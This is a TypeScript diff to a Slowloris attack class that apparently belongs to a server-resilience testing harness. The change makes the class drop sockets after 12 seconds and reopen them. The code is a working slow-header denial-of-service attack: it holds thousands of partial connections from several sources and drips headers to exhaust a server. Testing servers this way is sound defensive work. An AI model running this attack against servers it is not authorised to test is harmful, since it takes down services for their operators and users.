@@ -7,11 +7,14 @@ import { atMost, none, reaches } from './findings.js';
 const PER_SOURCE = 250;
 const DRIP_MS = 400;
 const GONE_WITHIN_MS = 14_000;
+/** A server that ends none of them is not attacked less: after so long they are given up and begun anew, ms. */
+const GIVEN_UP_AFTER_MS = 12_000;
 
 class SlowLoris implements Attack {
   readonly #context: AttackContext;
   readonly #count: number;
-  readonly #dripping = new Set<Socket>();
+  /** With when each was opened; the first one first. */
+  readonly #dripping = new Map<Socket, number>();
   #attacking = false;
   #work: Promise<void> = Promise.resolve();
 
@@ -20,9 +23,10 @@ class SlowLoris implements Attack {
     this.#count = context.short ? 200 : 4_000;
   }
 
-  start({ url }: Target): void {
+  start(target: Target): void {
+    const { url } = target;
     this.#attacking = true;
-    this.#work = this.#drip(url);
+    this.#work = this.#drip(target);
     for (let n = 0; n < 20; n++) this.#largeHeader(url);
   }
 
@@ -32,24 +36,34 @@ class SlowLoris implements Attack {
       await until(() => this.#dripping.size === 0, GONE_WITHIN_MS);
       this.#context.tally.add('outlasted', this.#dripping.size);
     }
-    for (const socket of this.#dripping) socket.destroy();
+    for (const socket of this.#dripping.keys()) socket.destroy();
     await this.#work;
   }
 
-  async #drip(url: string): Promise<void> {
+  async #drip({ url, bare }: Target): Promise<void> {
     for (let n = 0; this.#attacking || this.#dripping.size > 0; n++) {
+      this.#giveUp(bare);
       while (this.#attacking && this.#dripping.size < this.#count) {
         this.#open(url, Math.floor(this.#dripping.size / PER_SOURCE));
         if (this.#dripping.size % 50 === 0) await pause(1);
       }
-      for (const socket of this.#dripping) if (!socket.destroyed) socket.write(`x-${n}: slow\r\n`);
+      for (const socket of this.#dripping.keys()) if (!socket.destroyed) socket.write(`x-${n}: slow\r\n`);
       await pause(DRIP_MS);
+    }
+  }
+
+  #giveUp(bare: boolean): void {
+    for (const [socket, openedAt] of this.#dripping) {
+      if (performance.now() - openedAt < GIVEN_UP_AFTER_MS) return;
+      if (!bare) this.#context.tally.add('outlasted');
+      this.#dripping.delete(socket);
+      socket.destroy();
     }
   }
 
   #open(url: string, source: number): void {
     const socket = openSocket(url, this.#context.source(source));
-    this.#dripping.add(socket);
+    this.#dripping.set(socket, performance.now());
     this.#context.tally.peak('dripping at once', this.#dripping.size);
     socket.write(upgradeRequest('none').replace(/\r\n\r\n$/, '\r\n'));
     this.#count408(socket, () => this.#dripping.delete(socket));
